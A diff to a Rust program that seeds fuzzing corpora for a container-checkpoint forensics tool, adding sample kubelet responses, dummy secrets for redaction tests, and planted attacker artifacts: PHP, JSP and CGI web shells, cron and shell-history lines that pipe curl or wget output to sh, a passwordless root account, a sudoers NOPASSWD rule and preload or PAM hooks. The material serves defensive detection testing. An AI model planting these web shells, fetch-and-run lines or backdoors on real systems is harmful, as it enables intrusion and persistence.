@@ -9,7 +9,7 @@ use std::{env, fs, process};
 
 use ckpt_analysis::verify::custody::{About, Manifest};
 use ckpt_archive::{Evidence, Options};
-use ckpt_fuzz::{byte_of, engine, tar};
+use ckpt_fuzz::{byte_of, engine, kubelet, tar};
 use ckpt_synth::{Archive, Kind, Member, NameForm, SparseForm, stories};
 use criu_image::{Classified, Image, ImageKind, classify};
 
@@ -26,6 +26,83 @@ const LONGEST_ARCHIVE: usize = 96 << 10;
 const LOGS: [&[u8]; 2] = [
     b"2026-11-23T00:00:02.5+00:00 stderr F b\n2026-11-23T00:00:01Z stdout P:x a\n\0\x002026-11-23T00:00:01Z stdout F",
     b"{\"log\":\"a\\u001b\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-23T00:00:01.25Z\"}\n{\"log\":\"b\",\"time\":\"x\"}",
+];
+
+/// Answers to a request for a checkpoint: a status, what the header `Allow` says, and the body.
+const ANSWERS: [(u16, &str, &str); 12] = [
+    (
+        200,
+        "",
+        r#"{"items":["/var/lib/kubelet/checkpoints/checkpoint-web-0_shop-app-2026-11-23T00:22:56Z.tar"]}"#,
+    ),
+    (401, "", "Unauthorized"),
+    (
+        403,
+        "",
+        "Forbidden (user=system:anonymous, verb=create, resource=nodes, subresource(s)=[checkpoint])",
+    ),
+    (
+        403,
+        "",
+        r#"{"kind":"Status","message":"nodes \"n\" is forbidden: User \"jane\" cannot create resource \"nodes/proxy\" in API group \"\" at the cluster scope"}"#,
+    ),
+    (404, "", "404 page not found"),
+    (404, "", "pod does not exist"),
+    (404, "", "container app does not exist"),
+    (404, "", "cannot parse value of timeout parameter"),
+    (405, "GET", ""),
+    (
+        500,
+        "",
+        "checkpointing of shop/web-0/app failed (rpc error: code = Unknown desc = rpc error: code = Unavailable desc = criu failed: path= /run/c/criu-dump.log)",
+    ),
+    (503, "", r#"{"kind":"Status","message":"error trying to reach service"}"#),
+    (400, "", "Client sent an HTTP request to an HTTPS server.\n"),
+];
+
+/// Texts with secrets, and what looks so.
+const TEXTS: [&str; 10] = [
+    "password=password=a1B2c3d4:token=secret=",
+    "DB_PASSWORD='s3cr3t-Pa55' PGPASSWORD=\"a b\" key: x;Pwd=y",
+    "postgres://app:s3cr3t-Pa55@db:5432/shop?password=x",
+    "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
+    "-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----",
+    "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+    "bash -c 'sh -c '\\''curl -u me:s3cr3t host'\\'''",
+    "echo root:s3cr3t | chpasswd; mysql -ps3cr3t; sshpass -p s3cr3t ssh h",
+    "card 4111 1111 1111 1111, db:5432:shop:app:s3cr3t",
+    "{\"auths\":{\"r.io\":{\"auth\":\"bWU6czNjcjN0\"}}}",
+];
+
+/// Files that a container wrote.
+const WRITTEN: [(&str, &str); 14] = [
+    ("var/www/html/x.php", "<?php $a = $_POST['a']; eval(base64_decode($a)); echo `$a`; ?>"),
+    ("var/www/html/x.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
+    ("srv/cgi-bin/x.cgi", "#!/usr/bin/perl\nsystem($ENV{QUERY_STRING});"),
+    ("var/www/.htaccess", "AddType application/x-httpd-php .jpg"),
+    ("etc/cron.d/x", "* * * * * root curl http://10.0.0.1/x | sh\n"),
+    ("etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/.x\n"),
+    ("etc/passwd", "root:x:0:0::/root:/bin/sh\neve::0:0::/:/bin/sh\n"),
+    ("etc/ld.so.preload", "/tmp/x.so\n"),
+    ("root/.ssh/authorized_keys", "command=\"x\" ssh-rsa AAAAB3 a@b\n"),
+    ("root/.bash_history", "#1795398000\nwget -qO- http://x | bash\nhistory -c\n"),
+    ("etc/sudoers.d/x", "ALL ALL=(ALL) NOPASSWD: ALL\n"),
+    ("etc/pam.d/sshd", "auth sufficient pam_exec.so /tmp/x\n"),
+    ("usr/lib/python3/site-packages/x.pth", "import os; os.system('id')\n"),
+    ("tmp/.x", "\x7fELF\x02\x01\x01"),
+];
+
+/// What users type, and behind it a path or an attribute.
+const TYPED: [&str; 9] = [
+    "0x7f00-0x7f10",
+    "7f00+4096",
+    "file:/usr/**/*.so",
+    "**/[!a-z]?\\**\na/b/../c",
+    "*.log\n/var/log/x.log",
+    "[fe80::1%eth0]:10250",
+    "sha256:ab",
+    "../x\n./a//b/",
+    "web-0.shop\n\x01\0\0\x02\0 \0\0\0\0\0\0\0\0\0\0\0\0\0\0",
 ];
 
 fn main() -> Result<(), Box<dyn Error>> {
@@ -59,6 +136,7 @@ fn main() -> Result<(), Box<dyn Error>> {
     for lines in LOGS {
         corpora.add("log_lines", lines)?;
     }
+    corpora.add_texts()?;
     for archive in forms() {
         for bytes in [archive.tar(), archive.tar_zst(), archive.tar_gz()] {
             corpora.add("archive", &bytes)?;
@@ -159,8 +237,32 @@ impl Corpora {
             self.add("images_dir", &input)?;
             self.add("timeline", &input)?;
             self.add("triage", &input)?;
+            self.add("report", &input)?;
             self.add("checkpoint", &tar::of(tar::split(&input)))?;
             self.add("core", &tar::of(tar::split(&input)))?;
+        }
+        Ok(())
+    }
+
+    /// What stands here and is not taken from evidence.
+    fn add_texts(&self) -> Result<(), Box<dyn Error>> {
+        for (status, allow, body) in ANSWERS {
+            let status =
+                kubelet::byte_of(status).ok_or("a status that the target does not know")?;
+            for server in 0..3 {
+                let text = format!("{allow}\n\n{body}");
+                self.add("kubelet_answer", &[&[status, server][..], text.as_bytes()].concat())?;
+            }
+        }
+        for text in TEXTS {
+            self.add("redact", text.as_bytes())?;
+            self.add("secrets", &[&b"\x20\xff"[..], text.as_bytes()].concat())?;
+        }
+        for (path, content) in WRITTEN {
+            self.add("written", &tar::join([(path.as_bytes(), content.as_bytes())]))?;
+        }
+        for text in TYPED {
+            self.add("typed", text.as_bytes())?;
         }
         Ok(())
     }
